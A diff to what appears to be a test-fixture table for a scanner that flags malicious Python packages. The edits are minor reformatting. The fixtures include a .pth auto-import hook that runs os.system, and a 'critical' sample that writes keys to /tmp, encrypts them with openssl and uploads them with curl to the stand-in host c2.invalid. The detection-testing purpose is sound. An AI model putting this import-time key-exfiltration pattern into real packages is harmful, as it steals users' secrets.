@@ -387,7 +387,8 @@ VARIATIONS: dict[str, tuple[Site, str]] = {
             "v",
             {
                 "v.pth": "import v\n",
-                "v/__init__.py": "import os\nfrom v._common import LINUX\nif LINUX:\n    os.system('true')\n",
+                "v/__init__.py": "import os\nfrom v._common import LINUX\n"
+                "if LINUX:\n    os.system('true')\n",
                 "v/_common.py": "import sys\nLINUX = sys.platform.startswith('linux')\n",
             },
         ),
@@ -448,9 +449,9 @@ VARIATIONS: dict[str, tuple[Site, str]] = {
             {
                 "v/__init__.py": "from v import take, give\n",
                 "v/take.py": f"import os, subprocess\nopen('/tmp/k', 'wb').write({KEYS})\n"
-                "subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-in', '/tmp/k', '-out', '/tmp/k.enc'])\n",
+                "subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-in', '/tmp/k', '-out', '/tmp/e'])\n",
                 "v/give.py": "import subprocess\n"
-                "subprocess.run(['curl', '-T', '/tmp/k.enc', 'https://c2.invalid'])\n",
+                "subprocess.run(['curl', '-T', '/tmp/e', 'https://c2.invalid'])\n",
             },
         ),
         "critical",
